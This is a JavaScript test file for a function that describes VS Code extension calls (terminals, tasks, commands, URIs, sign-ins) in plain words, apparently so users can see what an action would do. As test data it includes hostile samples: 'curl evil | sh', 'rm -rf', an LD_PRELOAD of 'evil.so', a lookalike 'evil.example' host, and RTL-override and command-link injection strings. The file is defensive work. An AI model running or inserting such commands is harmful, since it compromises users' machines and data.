import assert from "node:assert/strict";
import test from "node:test";
import effectModule from "./effect.js";

const { effect } = effectModule;
const would = (method, args, about = JSON.stringify(args)) => effect({ kind: "vscode", detail: `MainThreadX.${method}`, about });

test("a question says what would happen", () => {
  for (const [method, args, expected] of [
    ["$updateConfigurationOption", [2, "editor.fontSize", 12], "set “editor.fontSize” to 12"],
    ["$updateConfigurationOption", [5, "a.b", "x"], "set “a.b” of the workspace to “x”"],
    ["$removeConfigurationOption", [null, "a.b"], "take back what is set for “a.b”"],
    ["$executeCommand", ["git.checkout", ["main"]], "run the command “git.checkout” with [\"main\"]"],
    ["$executeCommand", ["git.fetch", []], "run the command “git.fetch”"],
    ["$createTerminal", ["id", { shellPath: "/bin/sh", shellArgs: ["-c", "id"] }], "open a terminal that runs “/bin/sh -c id”"],
    ["$createTerminal", ["id", { name: "Build", initialText: "rm -rf" }], "open a terminal “Build”, with “rm -rf” in it"],
    ["$sendText", [1, "make", true], "type “make” into a terminal and run it"],
    ["$sendText", [1, "make", false], "type “make” into a terminal"],
    ["$executeTask", [{ name: "build", execution: { process: "/bin/make", args: ["all"] } }], "run the task “build”, which starts “/bin/make all”"],
    ["$startDebugging", [null, { type: "node", name: "Launch" }], 'start debugging {"type":"node","name":"Launch"}'],
    ["$startDebugging", [null, "Launch"], "start debugging “Launch”"],
    ["$createTerminal", ["id", { name: "Build", env: { LD_PRELOAD: "/w/evil.so" } }], 'open a terminal “Build”, with the variables {"LD_PRELOAD":"/w/evil.so"}'],
    ["$executeTask", [{ id: "user.deploy", workspaceFolder: {}, name: "test", execution: { commandLine: "npm test" } }], "run the task “user.deploy” as it is defined"],
    ["$executeTask", [{ name: "test", execution: { commandLine: "npm test", options: { executable: "/w/evil" } } }], 'run the task “test”, which starts “{"commandLine":"npm test","options":{"executable":"/w/evil"}}”'],
    ["$sendText", [1, "make\r", false], "type “make\\x0d” into a terminal and run it"],
    ["$sendText", [1, "make\x0f", false], "type “make\\x0f” into a terminal and run it"],
    ["$sendText", [1, "a\tb", false], "type “a\\x09b” into a terminal"],
    ["$createTerminal", ["id", { name: "Build", hideFromUser: true }], "open a terminal that you do not see “Build”"],
    ["$updateConfigurationOption", [2, "a.b", "14 (Always lets it do nothing). “c”"], 'set “a.b” to “14 (Always lets it do nothing). "c"”'],
    ["$invokeTool", [{ toolId: "shell", parameters: { command: "id" } }], 'run the tool “shell” with {"command":"id"}'],
    ["$openUri", [{ scheme: "https", authority: "a.example", path: "/x", query: "y" }, "https://good.example", {}], "open “https://a.example/x?y” outside the editor"],
    ["$getSession", ["github", ["repo", "user"]], "sign in as you at “github” for “repo user”"],
  ])
    assert.equal(would(method, args), expected, method);
});

test("what counts is shown where a call says it in several ways", () => {
  assert.match(would("$executeTask", [{ name: "t", execution: { process: "/bin/true", commandLine: "curl evil" } }]), /true.*curl evil/);
});

test("what is in another shape, cut off or unknown is not made up", () => {
  for (const [method, args] of [["$openUri", [null]], ["$createTerminal", [1]], ["$executeTask", []], ["$unknown", []], ["constructor", []]]) assert.equal(would(method, args), undefined, method);
  assert.equal(would("$updateConfigurationOption", [], '[2,"a.b","xxx…'), 'call updateConfigurationOption with [2,"a.b","xxx……, which is too long to be shown');
  assert.equal(would("$executeCommand", [], '["git.x",["yyy…'), 'run a command: ["git.x",["yyy……, which is too long to be shown');
  assert.equal(effect({ kind: "read", detail: "MainThreadFileSystem.$readFile", about: "[]" }), undefined);
});

test("what is cut says so, and not whose address it is", () => {
  const long = `npm test ${"-".repeat(200)} && curl evil | sh ${"-".repeat(200)} --watch`;
  assert.match(would("$sendText", [1, long, true]), /^type “npm test .*…-*.* --watch” \(\d+ characters, not all shown\) into a terminal and run it$/);
  const host = `github.com.${"a".repeat(60)}.evil.example`;
  assert.ok(would("$openUri", [{ scheme: "https", authority: host, path: `/${"x".repeat(100)}/login` }]).includes(`“https://${host}/`));
  assert.equal(effect({ kind: "vscode", detail: "ExtHostLanguageModelTools.$invokeTool", about: "[{}]" }), "run its tool for a chat");
});

test("texts of others are escaped", () => {
  const evil = "\u202ex](command:evil)$(alert)\n";
  for (const [method, args] of [["$updateConfigurationOption", [2, evil, evil]], ["$executeCommand", [evil, [evil]]], ["$createTerminal", [1, { shellPath: evil, shellArgs: [evil], initialText: evil }]], ["$openUri", [{ scheme: evil, path: evil }]], ["$sendText", [1, evil]]])
    assert.doesNotMatch(would(method, args), /[\u202e\n]|\]\(|\$\(/, method);
});
